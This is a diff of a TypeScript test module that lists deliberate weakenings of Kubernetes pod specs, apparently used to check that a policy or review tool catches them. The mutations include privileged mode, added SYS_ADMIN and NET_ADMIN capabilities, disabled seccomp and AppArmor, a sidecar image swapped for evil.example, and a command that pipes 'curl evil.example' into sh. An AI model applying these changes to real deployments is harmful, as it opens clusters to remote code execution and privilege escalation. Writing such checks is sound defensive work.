@@ -1,5 +1,5 @@
 /** Harm done to what runs, as whom, with what. */
-import { add, like, on, onMain, onPod, pod, template, type Any, type Mutation } from './edits.ts';
+import { add, like, on, onMain, onPod, pod, sidecar, template, type Any, type Mutation } from './edits.ts';
 
 const security = (name: string, change: (context: Any) => boolean | void): Mutation => onMain(`security, ${name}`, container => change(container.securityContext));
 
@@ -12,10 +12,12 @@ export const pods: Mutation[] = [
   onPod('extra container', spec => void spec.containers.push({ ...structuredClone(spec.containers[0]), name: 'helper', ports: [], volumeMounts: [] })),
   onPod('extra init container', spec => void (spec.initContainers = [...(spec.initContainers ?? []), { ...structuredClone(spec.containers[0]), name: 'setup', ports: undefined, volumeMounts: undefined, livenessProbe: undefined, readinessProbe: undefined, startupProbe: undefined }])),
   onPod('ephemeral container', spec => void (spec.ephemeralContainers = [{ name: 'debug', image: 'busybox:1.36' }])),
-  onPod('declared sidecar dropped', spec => (spec.containers.length > 1 ? void spec.containers.pop() : false)),
+  onPod('declared sidecar dropped', spec => { const one = sidecar(spec); return one ? void (spec.initContainers = spec.initContainers.filter((c: Any) => c !== one)) : false; }),
+  onPod('a sidecar that ends', spec => { const one = sidecar(spec); return one ? void delete one.restartPolicy : false; }),
+  onPod('a sidecar that holds up the end', spec => { const one = sidecar(spec); if (!one) return false; spec.initContainers = spec.initContainers.filter((c: Any) => c !== one); const { restartPolicy: _, ...plain } = one; spec.containers.push(plain); }),
   onPod('declared init container dropped', spec => (spec.initContainers ? void delete spec.initContainers : false)),
-  onPod("a sidecar's image replaced", spec => (spec.containers.length > 1 ? void (spec.containers[1].image = 'evil.example/x:1') : false)),
-  onPod('a sidecar gains a capability', spec => (spec.containers.length > 1 ? void (spec.containers[1].securityContext.capabilities.add = ['NET_ADMIN']) : false)),
+  onPod("a sidecar's image replaced", spec => { const one = sidecar(spec); return one ? void (one.image = 'evil.example/x:1') : false; }),
+  onPod('a sidecar gains a capability', spec => { const one = sidecar(spec); return one ? void (one.securityContext.capabilities.add = ['NET_ADMIN']) : false; }),
   onMain('another command', container => void (container.command = ['sh', '-c', 'curl evil.example | sh'])),
   onMain('other arguments', container => void (container.args = [...(container.args ?? []), '--insecure'])),
   onMain('another working directory', container => void (container.workingDir = '/root')),
@@ -33,13 +35,15 @@ export const pods: Mutation[] = [
   security('privileged', context => void (context.privileged = true)),
   security('escalation', context => void (context.allowPrivilegeEscalation = true)),
   security('escalation unsaid', context => void delete context.allowPrivilegeEscalation),
-  security('added capability', context => void (context.capabilities.add = [...(context.capabilities.add ?? []), 'SYS_ADMIN'])),
-  security('added bind capability', context => (context.capabilities.add ? false : void (context.capabilities.add = ['NET_BIND_SERVICE']))),
-  security('capabilities kept', context => void delete context.capabilities),
+  security('added capability', context => void (context.capabilities = { ...context.capabilities, add: [...(context.capabilities?.add ?? []), 'SYS_ADMIN'] })),
+  security('added bind capability', context => (context.capabilities?.add ? false : void (context.capabilities = { ...context.capabilities, add: ['NET_BIND_SERVICE'] }))),
+  security('capabilities kept', context => (context.capabilities?.drop ? void delete context.capabilities : false)),
+  security('declared root without capabilities', context => (context.runAsNonRoot === false ? void (context.capabilities = { ...context.capabilities, drop: ['ALL'] }) : false)),
+  security('declared root refused', context => (context.runAsNonRoot === false ? void delete context.runAsNonRoot : false)),
   security('writable root', context => (context.readOnlyRootFilesystem ? void (context.readOnlyRootFilesystem = false) : false)),
   security('writable root unsaid', context => void delete context.readOnlyRootFilesystem),
   security('root user', context => void (context.runAsUser = 0)),
-  security('may be root', context => void (context.runAsNonRoot = false)),
+  security('may be root', context => (context.runAsNonRoot === false ? false : void (context.runAsNonRoot = false))),
   security('seccomp off', context => void (context.seccompProfile = { type: 'Unconfined' })),
   security('AppArmor off', context => void (context.appArmorProfile = { type: 'Unconfined' })),
   security('SELinux type', context => void (context.seLinuxOptions = { type: 'spc_t' })),
